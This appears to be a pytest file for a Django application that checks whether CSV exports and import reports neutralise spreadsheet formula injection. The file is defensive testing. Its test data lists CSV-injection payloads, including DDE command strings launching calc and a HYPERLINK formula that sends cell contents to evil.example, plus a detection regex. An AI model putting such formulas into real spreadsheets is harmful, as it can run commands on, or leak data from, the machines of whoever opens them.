"""No text of ours becomes a formula in a spreadsheet, whichever separator that spreadsheet believes in."""

import csv
import io
import re

import pytest
from django.urls import reverse

from kam.downloads import neutral
from kam.roles import Role
from kpis.imports.toml import mapping_text
from tests import make
from tests.kpis.files import take

pytestmark = pytest.mark.django_db
STARTS = ("", " ", "\t", "\r", "\n", "\r\n", "\u00a0", "\u200b", "\ufeff", "\x0b", "\x0c", "\u3000", "\x00", " \t ")
FORMULAS = (
    "=1+1",
    "==1",
    "+1+cmd|'/c calc'!A0",
    "-2+3+cmd|'/c calc'!A0",
    "@SUM(1)",
    "|x",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
)
FORMULAS += ('=HYPERLINK("http://evil.example?"&A1)', "=cmd|'/c calc'!A0", "-1+1", "=WEBSERVICE(1)")
ACTIVE = re.compile(r"^[\s\x00-\x20\u00a0\u200b-\u200f\ufeff]*[=+\-@|＝＋－＠]")


@pytest.mark.parametrize("separator", ["", ";", "x;", "x; y;"])
def test_no_cell_begins_a_formula(separator):
    for start in STARTS:
        for formula in FORMULAS:
            told = neutral(f"{separator}{start}{formula}", keep_numbers=True)
            assert not [cell for cell in told.split(";") if ACTIVE.match(cell)], repr((start, formula))


def test_numbers_and_plain_words_stay_as_they_are():
    for text in ("-5", "+5", "-1.234,50", "a=b", "x; y", "1;2", "", "5-"):
        assert neutral(text, keep_numbers=True) == text
    assert [neutral(v) for v in (-5, None, 1.5)] == [-5, None, 1.5]


def cells(answer):
    text = b"".join(answer.streaming_content).decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


@pytest.mark.parametrize("formula", ["=1+1", " @x", "x;=1+1"])
def test_the_export_of_accounts_and_the_report_of_an_import(client, formula):
    person = make.user(Role.TEAM_LEAD, name=formula)
    make.account(name=formula, code=formula[:40], owner=person, team=make.team(person))
    client.force_login(person)
    told = cells(client.get(reverse("accounts:list") + "?format=csv"))
    assert sum("1+1" in cell or "@x" in cell for cell in told) == 3
    assert not [part for cell in told for part in cell.split(";") if ACTIVE.match(part)]
    rows = f"account,document,product,quantity,value,{formula}\n{formula},D,P,1,{formula},x\n"
    batch = take(rows, mapping_text("default_invoices"), kind="invoices", by=person)
    told = cells(client.get(reverse("kpis:import-report", args=[batch.pk])))
    assert not [part for cell in told for part in cell.split(";") if ACTIVE.match(part)]
